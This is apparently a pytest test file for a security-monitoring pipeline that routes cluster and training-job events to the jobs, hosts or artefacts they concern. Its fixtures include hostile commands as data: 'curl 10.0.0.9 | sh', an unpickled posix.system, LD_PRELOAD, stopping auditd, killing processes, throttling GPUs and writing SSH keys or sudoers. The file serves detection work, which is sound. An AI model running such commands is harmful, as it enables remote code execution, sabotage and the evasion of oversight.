"""Whom an event concerns: each kind of body is routed, or stands in the list of what is not, with the reason.

scheduler, training -> the job     access -> the host     writes and loads -> the artefact     what concerns nobody -> no fact
"""

from collections.abc import Sequence
from typing import Any, get_args

import pytest

from pipeline.ingest.facts import BELOW_ROOTS, BULK, FACTS, facts_of
from pipeline.model.events import (
    AnyBody,
    AuditRecord,
    Body,
    CloudRequest,
    CodePushed,
    ControllerNote,
    DaemonNote,
    EnvironmentSet,
    Event,
    FileIntegrity,
    FileTouched,
    GlobalUnpickled,
    HookFound,
    Iteration,
    KernelCall,
    KernelLine,
    KubernetesRequest,
    Login,
    ModuleImported,
    ObjectAccess,
    ObjectEvent,
    PrivilegeUsed,
    ProbeNote,
    ProcessEnded,
    ProcessRun,
    ProcessSpawned,
    Progress,
    RuntimeAlert,
    SessionCommand,
    SignalRequested,
    SignalSent,
    SocketUsed,
)
from pipeline.model.facts import Fact, case_name
from pipeline.model.source import Source
from pipeline.model.told import decode_told
from pipeline.stream.cases import Cases
from tests import build
from tests.build import HOST, JOB, PID

ROOTS = ("/ckpt/", "/envs/", "s3://train/", "git://llm/pretrain/")
PROBE = Source.PROBE


def told(body: AnyBody, source: Source = PROBE, *, at: float = 10, host: str = HOST, job: str = "") -> list[tuple[str, str]]:
    """(stage, subject) of each fact."""
    event = build.event(at, source, body, host=host, job=job or getattr(body, "job", ""))
    return [(tell.stage, case_name(tell.fact.case)[1]) for tell in facts_of(event, ROOTS)]


@pytest.mark.parametrize("kind", get_args(AnyBody), ids=lambda kind: kind.__name__)
def test_every_kind_of_body_is_routed_or_left_out_for_a_reason(kind: type[Body]) -> None:
    """Whoever adds a kind decides whom it concerns."""
    routed = kind in FACTS or kind in BELOW_ROOTS
    assert routed != (kind in BULK)
    assert routed or BULK[kind]


def request(verb: str, resource: str = "pods", name: str = "pretrain-worker-3", **fields: Any) -> KubernetesRequest:
    return KubernetesRequest(user="u099", verb=verb, resource=resource, namespace="llm", name=name, **fields)


def accessed(action: str, path: str = "s3://train/shard-1", **fields: Any) -> ObjectAccess:
    return ObjectAccess(action=action, operation="x", path=path, user="u099", **fields)


MODULE = "/envs/torch/nn.py"
JOB_ONLY, HOST_ONLY, LLM = [("jobs", JOB)], [("hosts", HOST)], [("jobs", "llm/pretrain")]
ROUTES: dict[str, tuple[AnyBody, Sequence[tuple[str, str]]]] = {
    "a module below a root": (ModuleImported(job=JOB, module="torch.nn", path=MODULE, sha256="a" * 64), [("artefacts", MODULE)]),
    "a module of the image": (ModuleImported(job=JOB, module="torch.nn", path="/usr/lib/torch/nn.py", sha256="a" * 64), []),
    "a hook below a root": (
        HookFound(job=JOB, hook="pth", path="/envs/x.pth", sha256="a" * 64), [("jobs", JOB), ("artefacts", "/envs/x.pth")],
    ),
    "a hook elsewhere": (HookFound(job=JOB, hook="usercustomize", path="/home/u012/x.py", sha256="a" * 64), JOB_ONLY),
    "a variable": (EnvironmentSet(job=JOB, name="LD_PRELOAD", sha256="a" * 64), JOB_ONLY),
    "a global of a pickle": (GlobalUnpickled(job=JOB, module="posix", name="system"), JOB_ONLY),
    "a program started by the job": (ProcessSpawned(job=JOB, means="os.system", executable="sh"), JOB_ONLY),
    "a signal sent by the job": (SignalRequested(job=JOB, signal=9, target_pid=PID), JOB_ONLY),
    "a connection of the job": (SocketUsed(job=JOB, action="connect", address="10.0.0.9", port=22), JOB_ONLY),
    "the probe on itself": (ProbeNote(job=JOB, what="failed"), JOB_ONLY),
    "a refused request to the controller": (ControllerNote(note="refused", uid=1, job=JOB), JOB_ONLY),
    "the controller on itself": (ControllerNote(note="reconfigured"), []),
    "a signal by a node's daemon": (DaemonNote(what="signal", job=JOB, signal=9), JOB_ONLY),
    "a daemon's chatter": (DaemonNote(what="log", job=JOB), []),
    "a signal as a watcher tells it whole": (SignalSent(signal=9, target_pid=PID, success=True, serial=0), HOST_ONLY),
    "a process that was killed": (ProcessEnded(pid=PID, signal="SIGKILL"), HOST_ONLY),
    "a process that ended by itself": (ProcessEnded(pid=PID), []),
    "a killed process of a pod": (
        ProcessEnded(pid=PID, signal="SIGKILL", namespace="llm", pod="pretrain-worker-3"), [*HOST_ONLY, *LLM],
    ),
    "an alert": (RuntimeAlert(rule="Kill by another user", pid=PID), HOST_ONLY),
    "a call that writes below a root": (
        KernelCall(function="security_path_truncate", arguments=("/ckpt/a.pt",)), [*HOST_ONLY, ("artefacts", "/ckpt/a.pt")],
    ),
    "a call that reads there": (KernelCall(function="security_file_permission", arguments=("/ckpt/a.pt", "4")), HOST_ONLY),
    "a call that may write there": (
        KernelCall(function="security_file_permission", arguments=("/ckpt/a.pt", "2")), [*HOST_ONLY, ("artefacts", "/ckpt/a.pt")],
    ),
    "a command that slows GPUs": (ProcessRun(serial=0, arguments=("nvidia-smi", "-lgc", "210"), success=True), HOST_ONLY),
    "a question to a GPU": (ProcessRun(serial=0, arguments=("nvidia-smi", "-q"), success=True), []),
    "a cancel command": (ProcessRun(serial=0, arguments=("/usr/bin/scancel", "7", "8_1"), success=True), [("jobs", "7"), ("jobs", "8")]),
    "an update command": (ProcessRun(serial=0, arguments=("scontrol", "update", "JobId=7"), success=True), [("jobs", "7")]),
    "a cancel command on a bastion": (SessionCommand(user="u099", command="scancel 7"), [("jobs", "7"), ("hosts", HOST)]),
    "sudo that stops a shipper": (PrivilegeUsed(user="u099", run_as="root", command="/bin/systemctl stop auditd"), HOST_ONLY),
    "sudo that kills by name": (PrivilegeUsed(user="u099", run_as="root", command="/usr/bin/pkill -9 python"), HOST_ONLY),
    "sudo that concerns nobody": (PrivilegeUsed(user="u099", run_as="root", command="/usr/bin/apt update"), []),
    "audit rules were changed": (AuditRecord(record_type="CONFIG_CHANGE", serial=1, fields={"op": "set"}), HOST_ONLY),
    "a credential of the audit system": (AuditRecord(record_type="CRED_ACQ", serial=1), []),
    "the kernel lost audit records": (KernelLine(text="audit: backlog limit exceeded"), HOST_ONLY),
    "the kernel found a mouse": (KernelLine(text="usb 1-1: new device"), []),
    "a write below a root": (FileTouched(action="written", path="/ckpt/a.pt", serial=0, success=True), [("artefacts", "/ckpt/a.pt")]),
    "a rename: both names": (
        FileTouched(action="renamed", path="/ckpt/b.pt", old_path="/ckpt/a.pt", serial=0, success=True),
        [("artefacts", "/ckpt/b.pt"), ("artefacts", "/ckpt/a.pt")],
    ),
    "a key file": (FileTouched(action="written", path="/home/u012/.ssh/authorized_keys", serial=0, success=True), HOST_ONLY),
    "a file that concerns nobody": (FileTouched(action="written", path="/tmp/a", serial=0, success=True), []),  # noqa: S108
    "a watcher's word on a write below a root": (FileIntegrity(action="written", path="/ckpt/a.pt"), [("artefacts", "/ckpt/a.pt")]),
    "a watcher's word on sudo's settings": (FileIntegrity(action="written", path="/etc/sudoers"), HOST_ONLY),
    "an object that was put": (accessed("written"), [("artefacts", "s3://train/shard-1")]),
    "an object that was copied: the copy": (
        accessed("written", "s3://train/b", old_path="s3://train/a"), [("artefacts", "s3://train/b")],
    ),
    "an object that was read": (accessed("read"), []),
    "an object elsewhere": (accessed("written", "s3://other/x"), []),
    "a push, by file": (
        CodePushed(user="u099", repository="llm/pretrain", ref="main", files=("train.py", "a/b.py")),
        [("artefacts", "git://llm/pretrain/train.py"), ("artefacts", "git://llm/pretrain/a/b.py")],
    ),
    "a push to another repository": (CodePushed(user="u099", repository="llm/other", ref="main", files=("train.py",)), []),
    "a pod was deleted": (request("delete"), LLM),
    "a job was deleted": (request("delete", "pytorchjobs.kubeflow.org", "pretrain"), LLM),
    "a job was changed": (request("patch", "jobs.batch", "pretrain"), LLM),
    "a pod was entered": (request("get", subresource="exec"), LLM),
    "a pod was evicted": (request("create", subresource="eviction"), LLM),
    "a job was made": (request("create", "jobs.batch", "pretrain"), LLM),
    "a pod was made": (request("create"), []),
    "a pod was read": (request("get"), []),
    "a status was written": (request("patch", subresource="status"), []),
    "a request was received": (request("delete", stage="RequestReceived"), []),
    "a whole collection was deleted": (request("deletecollection", name=""), []),
    "a service was deleted": (request("delete", "services", "pretrain"), []),
    "a controller changed a pod": (KubernetesRequest(user="system:node:gpu-001", verb="patch", resource="pods", name="a"), []),
    "a pod was preempted": (ObjectEvent(kind="Pod", name="pretrain-worker-3", namespace="llm", reason="Preempted"), LLM),
    "a workload was evicted": (ObjectEvent(kind="Workload", name="job-pretrain-1a2b3", namespace="llm", reason="Evicted"), LLM),
    "an image was pulled": (ObjectEvent(kind="Pod", name="pretrain-worker-3", namespace="llm", reason="Pulled"), []),
    "a node is not ready": (ObjectEvent(kind="Node", name="gpu-003", reason="NodeNotReady"), [("hosts", "gpu-003")]),
    "a login": (Login(user="u099", outcome="accepted"), []),
    "a request to a cloud": (CloudRequest(user="u099", service="ec2", operation="TerminateInstances"), []),
}  # fmt: skip


@pytest.mark.parametrize(("body", "expected"), ROUTES.values(), ids=ROUTES)
def test_an_event_is_told_to_those_whom_it_concerns(body: AnyBody, expected: Sequence[tuple[str, str]]) -> None:
    """And to nobody else."""
    assert told(body) == list(expected)


def kept(*events: Event) -> list[Fact]:
    """What cases keep of the facts of some events, whatever their order."""
    found = []
    for order in (events, events[::-1]):
        cases = Cases(tell.fact for event in order for tell in facts_of(event, ROOTS))
        found.append(sorted(cases.facts(), key=lambda fact: (fact.case, fact.id)))
    assert found[0] == found[1]
    return found[0]


def of_job(at: float, body: AnyBody, host: str = HOST) -> Event:
    return build.event(at, PROBE, body, host=host, job=JOB)


def test_what_all_ranks_say_alike_is_one_fact() -> None:
    """Of a thousand ranks that import the same bytes the first; other bytes are news."""
    ranks = [of_job(at, ModuleImported(job=JOB, module="m", path=MODULE, sha256="a" * 64, pid=at), f"gpu-{at:03}") for at in range(1, 9)]
    other = of_job(20, ModuleImported(job=JOB, module="m", path=MODULE, sha256="b" * 64))
    first, second = kept(*ranks, other)
    assert {event.id for event in (decode_told(first.body), decode_told(second.body)) if isinstance(event, Event)} == {
        ranks[0].id, other.id,
    }  # fmt: skip


def test_a_loader_that_starts_a_program_again_and_again_fills_no_case() -> None:
    """By program and first words, once an hour; another command line is another fact."""
    often = [
        of_job(
            at,
            ProcessSpawned(job=JOB, means="subprocess.Popen", executable="/usr/bin/ffmpeg", arguments=("ffmpeg", "-i", f"/tmp/{at}")),  # noqa: S108
        )
        for at in range(1, 50)
    ]
    shell = of_job(60, ProcessSpawned(job=JOB, means="os.system", executable="sh", arguments=("sh", "-c", "curl 10.0.0.9 | sh")))
    assert len(kept(*often, shell)) == 2


def test_a_signal_of_the_job_is_kept_by_process() -> None:
    """The kernel's record of it names the processes, too."""
    events = [of_job(10, SignalRequested(job=JOB, signal=9, target_pid=target, pid=pid)) for target in (1, 2) for pid in (3, 4)]
    assert len(kept(*events)) == 4


@pytest.mark.parametrize("kind", [Iteration, Progress])
def test_steps_are_sampled(kind: type[Iteration] | type[Progress]) -> None:
    """One in five minutes, however often a job logs, beside the last of an hour."""

    def step(at: int) -> Iteration | Progress:
        return Iteration(iteration=1001 + at) if kind is Iteration else Progress(what="train", step=at)

    facts = kept(*(of_job(at, step(at)) for at in range(0, 3600, 20)))
    times = sorted(event.event_time - build.T0 for event in (decode_told(fact.body) for fact in facts) if isinstance(event, Event))
    assert times == [*range(0, 3_600_000, 300_000), *([3_580_000] if kind is Iteration else [])]


def test_a_store_s_write_is_the_same_evidence_under_one_kind() -> None:
    """Id, source and digest stay; who did it, too; root of a store is a name, since a store knows no daemons."""
    put = build.event(10, Source.MINIO, accessed("deleted"), host="")
    by_root = build.event(10, Source.LUSTRE_CHANGELOG, ObjectAccess(action="written", operation="CLOSE", path="/ckpt/a.pt", uid=0))
    found = [decode_told(tell.fact.body) for event in (put, by_root) for tell in facts_of(event, ROOTS)]
    first, second = (event for event in found if isinstance(event, Event))
    assert (first.id, first.source, first.sha256) == (put.id, Source.MINIO, put.sha256)
    assert isinstance(first.body, FileTouched)
    assert (first.body.action, first.body.user) == ("deleted", "u099")
    assert isinstance(second.body, FileTouched)
    assert (second.body.uid, second.body.user) == (None, "root")


def test_without_roots_nothing_is_an_artefact() -> None:
    """A site that names no folders has no history of files."""
    events = [
        build.event(10, Source.MINIO, accessed("written")),
        build.write(10),
        of_job(10, ModuleImported(job=JOB, module="m", path=MODULE, sha256="a" * 64)),
    ]
    assert [tell for event in events for tell in facts_of(event, ())] == []


def test_a_line_of_one_job_s_output_speaks_for_no_other() -> None:
    """Its author is not that job."""
    event = build.event(10, PROBE, GlobalUnpickled(job="8", module="posix", name="system"), job=JOB)
    assert list(facts_of(event, ROOTS)) == []
